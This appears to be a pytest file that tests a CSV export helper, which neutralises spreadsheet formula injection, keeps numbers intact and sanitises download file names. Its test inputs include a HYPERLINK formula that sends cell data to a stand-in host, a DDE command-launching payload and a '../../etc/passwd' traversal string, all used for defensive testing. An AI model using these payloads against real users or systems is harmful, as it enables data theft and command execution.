"""`lib.csv_export`: formula-like text is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from lib.csv_export import neutralise, to_csv_bytes


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://planted.invalid/?"&A1,"x")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_like_text_gets_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    rows = _rows(to_csv_bytes(pd.DataFrame({"task_id": [cell]})))
    assert rows[1] == ["'" + cell]


@pytest.mark.parametrize("cell", ["Adidas--11857213", "Judge9", "", "a=b", " =x", "'=already"])
def test_ordinary_text_is_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_numbers_booleans_and_missing_values_are_left_alone() -> None:
    frame = pd.DataFrame(
        {
            "kappa": [-0.12, 0.5, float("nan")],
            "n": pd.array([-3, 4, None], dtype="Int64"),
            "ok": [True, False, True],
            "verifier": ["=evil()", "-name", None],
            "label": pd.array(["-1", "1", pd.NA], dtype="string"),
        }
    )
    data = to_csv_bytes(frame)
    assert data.splitlines()[1].startswith(b"-0.12,-3,")  # unquoted: a spreadsheet number
    rows = _rows(data)
    assert rows[0] == ["kappa", "n", "ok", "verifier", "label"]
    assert rows[1] == ["-0.12", "-3", "True", "'=evil()", "'-1"]
    assert rows[2] == ["0.5", "4", "False", "'-name", "1"]
    assert rows[3] == ["", "", "True", "", ""]
    assert float(rows[1][0]) == -0.12  # still a number


def test_header_names_are_neutralised_and_the_input_is_not_modified() -> None:
    frame = pd.DataFrame({"=x": ["-y"]})
    assert _rows(to_csv_bytes(frame))[0] == ["'=x"]
    assert frame.columns.tolist() == ["=x"] and frame.iloc[0, 0] == "-y"


@pytest.mark.parametrize(
    "stem",
    ['slices_my/verifier:"v2"', "agreement_../../etc/passwd", "a\\b<c>d|e?*f\n", "…" * 300],
)
def test_every_download_name_is_made_of_safe_characters(stem: str) -> None:
    from ui.download import file_name

    name = file_name(stem)
    assert re.fullmatch(r"[A-Za-z0-9._-]{0,120}\.csv", name), name
    assert "/" not in name and "\\" not in name and not name.startswith(".")
